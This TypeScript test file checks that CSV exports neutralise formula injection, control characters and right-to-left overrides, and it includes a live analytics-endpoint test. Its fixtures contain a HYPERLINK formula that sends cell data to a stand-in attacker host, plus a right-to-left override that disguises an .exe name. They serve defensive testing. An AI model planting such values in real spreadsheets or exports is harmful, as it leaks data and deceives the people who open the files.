/**
 * CSV exports neutralise what a spreadsheet would execute or display deceptively: a cell that
 * begins with `=`, `+`, `-`, `@`, a tab or a line break gets a leading `'` (OWASP's CSV injection
 * guidance), except a plain decimal number such as `-12.50`, which no spreadsheet reads as a
 * formula and which stays machine-readable; control characters and bidirectional overrides
 * become U+FFFD; a field holding `;` is quoted (the list separator of Italian spreadsheets). The
 * attack is the review's: an editor's project title `=HYPERLINK(…)` with a right-to-left override
 * and a control character, exported by /analytics/*.csv. JSON carries the text as it was written.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../lib/csv.ts';
import { toCsv as dashboardToCsv } from '../../ui/dashboard/csv.ts';
import { parseCsv } from '../helpers/csv.ts';
import { startStack, type Stack } from '../helpers/stack.ts';

const ADD_FUNDED_PROJECT = readFileSync(new URL('./operations/addFundedProject.graphql', import.meta.url), 'utf8');

describe('CSV cells', () => {
  it("prefixes a cell that begins like a formula with a single quote", () => {
    for (const text of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=HYPERLINK("http://evil.example/?"&A1,"x")', '-', '+39 011 432 1111']) {
      expect(parseCsv(toCsv(['a'], [[text]]))[1]![0], JSON.stringify(text)).toBe(`'${text}`);
    }
  });

  it('keeps plain decimal numbers as they are, negative ones included, as strings and as numbers', () => {
    for (const value of ['-12.50', '+3', '-0.01', '12.50', '0', -12.5, -3, 7]) {
      expect(csvField(value), String(value)).toBe(String(value));
    }
    // Anything more than a number is text, and neutralised.
    for (const text of ['-12.50+1', '-1e3', '-12,50', '--1', '-12.50 ', '-.5']) expect(csvField(text).replace(/^"|"$/g, '')).toMatch(/^'/);
  });

  it('replaces control characters and bidirectional controls with U+FFFD, keeping tabs and line breaks inside the text', () => {
    const text = 'a\u0000b\u0007c\u001bd\u007fe\u0085f\u202eg\u202dh\u2066i\u2069j\u200fk\u061cl';
    expect(parseCsv(toCsv(['a'], [[text]]))[1]![0]).toBe('a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\uFFFDg\uFFFDh\uFFFDi\uFFFDj\uFFFDk\uFFFDl');
    expect(parseCsv(toCsv(['a'], [['line one\r\nline\ttwo']]))[1]![0]).toBe('line one\r\nline\ttwo');
  });

  it('quotes a field holding the list separator of Italian spreadsheets', () => {
    expect(csvField('a;=1+1')).toBe('"a;=1+1"');
  });

  it("is the dashboard's writer too", () => {
    expect(dashboardToCsv).toBe(toCsv);
    expect(dashboardToCsv(['t'], [['=1+1'], ['-12.50']])).toBe("t\r\n'=1+1\r\n-12.50\r\n");
  });
});

describe('/analytics/*.csv with an editor-written title', () => {
  let stack: Stack;
  const title = '=HYPERLINK("http://evil.example/?"&A1;"Apri")\u202Efdp.exe\u0007';
  beforeAll(async () => {
    stack = await startStack();
    const editor = await stack.createKey({ name: 'editor-funding-csv', role: 'editor', subgraphs: ['funding'] });
    const input = { agreementId: 'apq-act-4', callId: 'cnipa-2007-reuse', reuseSolutionId: 'atoc-comune-facile', title, totalValue: '1000.00', cofinancing: '400.00', provenance: 'SAMPLE' };
    const added = await stack.query(ADD_FUNDED_PROJECT, { input }, { authorization: `Bearer ${editor}` });
    expect(added.body.errors).toBeUndefined();
  });
  afterAll(async () => {
    await stack?.stop();
  });

  it('exports the title neutralised in CSV, and as written in JSON', async () => {
    const csv = await (await fetch(`${stack.gatewayUrl}analytics/funding-by-alliance.csv`)).text();
    const cells = parseCsv(csv).flat();
    expect(cells).not.toContain(title);
    expect(cells.filter((c) => /HYPERLINK/.test(c))).toEqual([`'=HYPERLINK("http://evil.example/?"&A1;"Apri")\uFFFDfdp.exe\uFFFD`]);
    expect(cells.some((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toBe(false);
    const json = (await (await fetch(`${stack.gatewayUrl}analytics/funding-by-alliance.json`)).json()) as { rows: { label: string }[] };
    expect(json.rows.map((r) => r.label)).toContain(title);
  });
});
